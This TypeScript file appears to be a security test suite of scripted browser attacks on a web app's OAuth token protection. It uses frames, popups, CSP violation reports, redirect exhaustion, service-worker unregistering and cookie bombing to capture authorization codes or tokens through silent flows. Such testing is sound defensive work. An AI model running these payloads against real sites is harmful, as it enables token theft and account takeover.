import { type Attack, attack, type Payload } from "../attack.js";
import { withoutRegister } from "./hooks.js";

/** The silent flow in a frame, and all ways in which a page may learn the frame's final URL. */
const inAFrame: Payload = async (it) => {
  // The redirect to the callback violates the attacker's own policy, and the report names the blocked URL.
  addEventListener("securitypolicyviolation", (event) =>
    it.steal(event.blockedURI, event.documentURI, event.sourceFile),
  );
  const look = async (frame: HTMLIFrameElement) => {
    for (let tries = 0; tries < 60; tries++) {
      try {
        const { location, document, performance, navigation } = frame.contentWindow as typeof window & {
          navigation?: { currentEntry: { url: string } };
        };
        it.steal(location.href, document.URL, document.documentElement.outerHTML, document.referrer);
        it.steal(performance.getEntries(), navigation?.currentEntry.url);
      } catch {
        // The frame is cross-origin now.
      }
      await it.pause(10);
    }
  };
  const open = async (attributes: Record<string, string>) => {
    const frame = document.createElement("iframe");
    for (const [name, value] of Object.entries(attributes)) frame.setAttribute(name, value);
    frame.onload = frame.onerror = (event) => it.steal(String(event));
    document.body.append(frame);
    await look(frame);
    frame.remove();
  };
  const src = it.authorizationUrl();
  await Promise.all([
    open({ src }),
    open({ src, referrerpolicy: "unsafe-url", name: "named", allow: "fullscreen *" }),
    open({ src, sandbox: "allow-same-origin allow-scripts allow-top-navigation" }),
    open({ src, csp: "default-src 'self'" }),
  ]);
  it.steal(performance.getEntries());
};

const inAPopup: Payload = async (it) => {
  const popup = open(it.authorizationUrl());
  for (let tries = 0; tries < 80; tries++) {
    try {
      it.steal(popup?.location.href, popup?.document.referrer);
    } catch {
      // The popup is cross-origin now.
    }
    await it.pause(10);
  }
  popup?.close();
};

export const silentFlowInAFrame = attack({
  name: "runs a silent flow in a frame",
  threat: "acquisition of new tokens",
  target: "any",
  async payload(it) {
    const frame = document.createElement("iframe");
    frame.src = it.authorizationUrl();
    document.body.append(frame);
    for (let tries = 0; tries < 200; tries++) {
      try {
        const { location, document, performance } = frame.contentWindow as Window & typeof globalThis;
        it.steal(location.href, document.referrer, performance.getEntries());
      } catch {
        // The frame is cross-origin now.
      }
      await it.pause(10);
    }
    it.steal(performance.getEntries());
  },
});

export const silentFlowInAPopup = attack({
  name: "runs a silent flow in a popup",
  threat: "acquisition of new tokens",
  target: "any",
  wantsCode: true,
  payload: inAPopup,
  async play(stage) {
    await stage.openSignedIn();
    await stage.injectOnClick();
    await stage.closeOtherTabs();
  },
});

export const silentFlowInTheTopPage = attack({
  name: "runs a silent flow in the top page",
  threat: "acquisition of new tokens",
  target: "any",
  wantsCode: true,
  payload(it) {
    location.assign(it.authorizationUrl());
  },
  async play(stage) {
    await stage.openSignedIn();
    await stage.injectAndLeave();
  },
});

export const silentFlowWithFragment = attack({
  name: "runs a silent flow in the top page, with the response in the fragment",
  threat: "acquisition of new tokens",
  target: "the app's origin",
  alone: true,
  wantsCode: true,
  // Browsers carry the fragment of the callback's URL over to the page that the response redirects to.
  hook(it) {
    const { navigation } = window as { navigation?: { entries(): { url: string }[] } };
    it.steal(
      location.href,
      performance.getEntries(),
      (navigation?.entries() ?? []).map(({ url }) => url),
    );
  },
  payload(it) {
    location.assign(it.authorizationUrl({ response_mode: "fragment" }));
  },
  async play(stage) {
    await stage.openSignedIn();
    await stage.injectAndLeave();
    await stage.browser.waitFor("the app", async () => (await stage.state()) !== null);
  },
});

/** The silent flow after fewer and fewer redirects of the attacker's own: browsers refuse the 20th redirect, or the 21st. */
const refusedRedirect: Pick<Attack, "threat" | "target" | "wantsCode" | "hook" | "payload"> = {
  threat: "acquisition of new tokens",
  target: "the app's origin",
  wantsCode: true,
  hook(it) {
    const { navigation } = window as { navigation?: { entries(): { url: string }[] } };
    const look = () => it.steal((navigation?.entries() ?? []).map(({ url }) => url));
    look();
    addEventListener("pageshow", look);
  },
  async payload(it) {
    const redirects = Number(sessionStorage.getItem("redirects") ?? 20);
    sessionStorage.setItem("redirects", String(redirects - 1));
    location.assign(
      `${it.attackerUrl}/redirects/${redirects}?to=${encodeURIComponent(it.authorizationUrl())}`,
    );
    // With 204, the page stays.
    await it.pause(2_000);
  },
};

export const refusedRedirectOfTheWorker = attack({
  ...refusedRedirect,
  name: "lets the browser refuse the callback's redirect as one too many, and reads the tab's history",
  alone: true,
  async play(stage) {
    await stage.openSignedIn();
    for (let tries = 0; tries < 4; tries++) {
      await stage.injectAndLeaveOrStay();
      await stage.open();
    }
  },
});

export const refusedRedirectOfTheHost = attack({
  ...refusedRedirect,
  name: "unregisters the worker, lets the browser refuse the callback's redirect as one too many, and reads the tab's history",
  leavesWorkers: true,
  hook(it) {
    ServiceWorkerContainer.prototype.register = () => new Promise(() => {});
    const { navigation } = window as { navigation?: { entries(): { url: string }[] } };
    const look = () => it.steal((navigation?.entries() ?? []).map(({ url }) => url));
    look();
    addEventListener("pageshow", look);
  },
  async play(stage) {
    stage.hook([]);
    await stage.openSignedIn();
    stage.hook([refusedRedirectOfTheHost]);
    await stage.unregisterWorkers();
    for (let tries = 0; tries < 4; tries++) {
      await stage.openUnconnected();
      await stage.injectAndLeaveOrStay();
    }
    await stage.openUnconnected();
  },
});

export const refusedPopup = attack({
  ...refusedRedirect,
  name: "lets the browser refuse the callback's page in a sandboxed popup, and reads the popup's history",
  alone: true,
  // Browsers load no page with an opener policy in a popup that inherits a sandbox.
  async payload(it) {
    const frame = document.createElement("iframe");
    frame.setAttribute("sandbox", "allow-same-origin allow-scripts allow-popups");
    document.body.append(frame);
    const page = `<!doctype html><script src="${new URL("/assets/dependency.js", it.appUrl)}"></script>`;
    const own = URL.createObjectURL(new Blob([page], { type: "text/html" }));
    const popup = frame.contentWindow?.open(own);
    if (!popup) throw new Error("the browser opened no popup");
    // WebKitGTK loads the page, but never lets this one see it.
    const isLoaded = () => popup.document.URL === own && popup.document.readyState === "complete";
    for (let tries = 0; tries < 50 && !isLoaded(); tries++) await it.pause(20);
    popup.location.href = it.authorizationUrl();
  },
  async play(stage) {
    const { browser, site } = stage;
    await stage.openSignedIn();
    const tab = await browser.currentTab();
    await stage.injectOnClick();
    const [popup = ""] = (await browser.driver.getAllWindowHandles()).filter((handle) => handle !== tab);
    await browser.switchTo(popup);
    await browser.waitFor("the end of the flow", async () => (await browser.url()).startsWith(site.origin));
    // The user goes back from the browser's error page.
    await browser.driver.navigate().back();
    await browser.waitFor("the attacker's page", async () => (await browser.url()).startsWith("blob:"));
    await browser.evaluate(() => globalThis.attacker?.flush());
    await stage.closeTab(tab);
  },
});

export const popupWithoutScripts = attack({
  name: "runs a silent flow in a popup that may run no script, and reads the popup",
  threat: "acquisition of new tokens",
  target: "the app's origin",
  alone: true,
  wantsCode: true,
  // The worker's page at the callback cannot replace its URL there.
  async payload(it) {
    const frame = document.createElement("iframe");
    frame.setAttribute("sandbox", "allow-same-origin allow-popups");
    document.body.append(frame);
    const popup = frame.contentWindow?.open(it.authorizationUrl()) as
      | (Window & { navigation?: { entries(): { url: string }[] } })
      | null;
    if (!popup) throw new Error("the browser opened no popup");
    for (let tries = 0; tries < 150; tries++) {
      try {
        it.steal(popup.location.href, popup.document.URL);
        it.steal((popup.navigation?.entries() ?? []).map(({ url }) => url));
      } catch {
        // The popup is cross-origin now.
      }
      await it.pause(20);
    }
  },
  async play(stage) {
    await stage.openSignedIn();
    await stage.injectOnClick();
    await stage.closeOtherTabs();
  },
});

export const silentFlowByFetch = attack({
  name: "runs a silent flow by fetch, image, script, object and prefetch",
  threat: "acquisition of new tokens",
  target: "any",
  async payload(it) {
    const url = it.authorizationUrl();
    for (const init of [
      { mode: "cors", credentials: "include" },
      { mode: "no-cors", credentials: "include" },
      { mode: "no-cors", credentials: "include", redirect: "manual" },
      { mode: "same-origin", credentials: "include" },
    ] as RequestInit[]) {
      const response = await fetch(url, init).catch((error: unknown) => String(error));
      it.steal(typeof response === "string" ? response : [response.url, await response.text()]);
    }
    const elements: Element[] = [];
    for (const [name, attributes] of [
      ["img", { src: url }],
      ["link", { rel: "prefetch", href: url }],
      ["link", { rel: "stylesheet", href: url }],
      ["object", { data: url }],
      ["embed", { src: url }],
      ["video", { src: url }],
    ] as [string, Record<string, string>][]) {
      const element = document.createElement(name);
      try {
        for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
      } catch {
        // Trusted Types refuse <object> and <embed>.
      }
      elements.push(element);
    }
    document.body.append(...elements);
    await import(url).catch((error: unknown) => it.steal(String(error)));
    await it.pause(1_500);
    for (const element of elements) {
      try {
        const { contentDocument } = element as HTMLObjectElement;
        it.steal(contentDocument?.URL);
      } catch {
        // Cross-origin.
      }
    }
    it.steal(performance.getEntries());
  },
});

export const apiClearSiteData = attack({
  name: "uses Clear-Site-Data of the API, then runs a silent flow",
  threat: "acquisition of new tokens",
  target: "strongroom",
  payload: inAFrame,
  async play(stage) {
    stage.site.routes.set("/api/v1/hostile-clear", (_request, response) => {
      response.writeHead(200, { "clear-site-data": '"cache", "storage", "executionContexts"' }).end();
    });
    await stage.openSignedIn();
    await stage.browser.evaluate(() =>
      fetch("/api/v1/hostile-clear").then(
        () => {},
        () => {},
      ),
    );
    await stage.open();
    await stage.inject();
  },
});

export const frameAfterShiftReload = attack({
  name: "runs a silent flow in a frame after a shift-reload",
  threat: "acquisition of new tokens",
  target: "strongroom",
  needs: "reload past a worker",
  payload: inAFrame,
  async play(stage) {
    await stage.openSignedIn();
    await stage.browser.markDocument();
    await stage.browser.hardReload();
    await stage.browser.waitForNewDocument();
    await stage.inject();
  },
});

export const frameBeforeFirstActivation = attack({
  name: "runs a silent flow in a frame before the worker's first activation",
  threat: "acquisition of new tokens",
  target: "strongroom",
  hook: withoutRegister,
  payload: inAFrame,
  async play(stage) {
    // The browser has no worker of the app yet, and the authorization server knows the user.
    await stage.forgetEverything();
    await stage.openUnconnected();
    await stage.inject();
  },
});

export const frameStopped = attack({
  name: "runs a silent flow in a frame while the worker is stopped",
  threat: "acquisition of new tokens",
  target: "strongroom",
  needs: "stop a worker",
  payload: inAFrame,
  async play(stage) {
    await stage.openSignedIn();
    await stage.browser.stopWorkers();
    await stage.inject();
  },
});

export const frameUnregistered = attack({
  name: "unregisters the worker and runs a silent flow in a frame",
  threat: "acquisition of new tokens",
  target: "strongroom",
  hook: withoutRegister,
  payload: inAFrame,
  async play(stage) {
    await stage.unregisterWorkers();
    await stage.openUnconnected();
    await stage.inject();
  },
});

export const popupUnregistered = attack({
  name: "unregisters the worker and runs a silent flow in a popup",
  threat: "acquisition of new tokens",
  target: "strongroom",
  wantsCode: true,
  hook: withoutRegister,
  payload: inAPopup,
  async play(stage) {
    await stage.unregisterWorkers();
    await stage.openUnconnected();
    await stage.injectOnClick();
    await stage.closeOtherTabs();
  },
});

export const reportOfABlockedRedirect = attack({
  name: "adds a policy whose violation reports the callback's URL",
  threat: "acquisition of new tokens",
  target: "any",
  alone: true,
  // A page may always add a policy. The redirect to the callback violates it before the request reaches worker or host.
  async payload(it) {
    const { ReportingObserver } = window as unknown as {
      ReportingObserver?: new (callback: (reports: { toJSON(): unknown }[]) => void) => { observe(): void };
    };
    addEventListener("securitypolicyviolation", (event) =>
      it.steal(event.blockedURI, event.documentURI, event.sourceFile, event.sample, event.referrer),
    );
    if (ReportingObserver)
      new ReportingObserver((reports) => it.steal(reports.map((r) => r.toJSON()))).observe();
    const { origin } = new URL(it.authorizationEndpoint);
    const meta = document.createElement("meta");
    meta.httpEquiv = "Content-Security-Policy";
    meta.content = `frame-src ${origin}; img-src ${origin}`;
    document.head.append(meta);
    const frame = document.createElement("iframe");
    frame.src = it.authorizationUrl();
    document.body.append(frame, Object.assign(new Image(), { src: it.authorizationUrl() }));
    await it.pause(1_500);
    try {
      it.steal(frame.contentWindow?.location.href);
    } catch {
      // Cross-origin.
    }
    it.steal(performance.getEntries());
  },
});

export const topPageUnregistered = attack({
  name: "unregisters the worker, runs a silent flow in the top page, and reads the tab's history",
  threat: "acquisition of new tokens",
  target: "strongroom",
  wantsCode: true,
  hook(it) {
    ServiceWorkerContainer.prototype.register = () => new Promise(() => {});
    const { navigation } = window as { navigation?: { entries(): { url: string }[] } };
    it.steal(location.href, document.referrer, performance.getEntries());
    it.steal((navigation?.entries() ?? []).map(({ url }) => url));
  },
  async payload(it) {
    location.assign(it.authorizationUrl());
    // With 204, the page stays.
    await it.pause(1_000);
  },
  async play(stage) {
    await stage.unregisterWorkers();
    await stage.openUnconnected();
    await stage.injectAndLeaveOrStay();
    // The user returns to the app, where the script runs again.
    await stage.openUnconnected();
    await stage.browser.evaluate(() => history.back());
    await stage.openUnconnected();
  },
});

export const refusedCallback = attack({
  name: "unregisters the worker, sets cookies so that the host rejects the callback, and runs a silent flow in the top page",
  threat: "acquisition of new tokens",
  target: "the app's origin",
  wantsCode: true,
  leavesWorkers: true,
  hook: (it) => {
    ServiceWorkerContainer.prototype.register = () => new Promise(() => {});
    const { navigation } = window as { navigation?: { entries(): { url: string }[] } };
    const look = () => {
      it.steal(location.href, document.referrer, performance.getEntries());
      it.steal((navigation?.entries() ?? []).map(({ url }) => url));
    };
    look();
    addEventListener("pageshow", look);
  },
  payload: async (it) => {
    // More cookies than the server accepts, for the callback's path only.
    for (let sent = 0; sent < 21_000; sent += 3_500) {
      // biome-ignore lint/suspicious/noDocumentCookie: the attack itself
      document.cookie = `bomb${sent}=${"x".repeat(3_450)}; path=/auth/callback`;
    }
    location.assign(it.authorizationUrl());
    await it.pause(1_000);
  },
  async play(stage) {
    const { browser } = stage;
    stage.hook([]);
    await stage.openSignedIn();
    stage.hook([refusedCallback]);
    await stage.unregisterWorkers();
    await stage.openUnconnected();
    await stage.injectAndLeaveOrStay();
    // The user returns to the app, where the script runs again.
    await stage.openUnconnected();
    await browser.evaluate(() => history.back());
    await stage.openUnconnected();
    await browser.evaluate(() => {
      for (let sent = 0; sent < 21_000; sent += 3_500) {
        // biome-ignore lint/suspicious/noDocumentCookie: the attack itself
        document.cookie = `bomb${sent}=; path=/auth/callback; max-age=0`;
      }
    });
  },
});
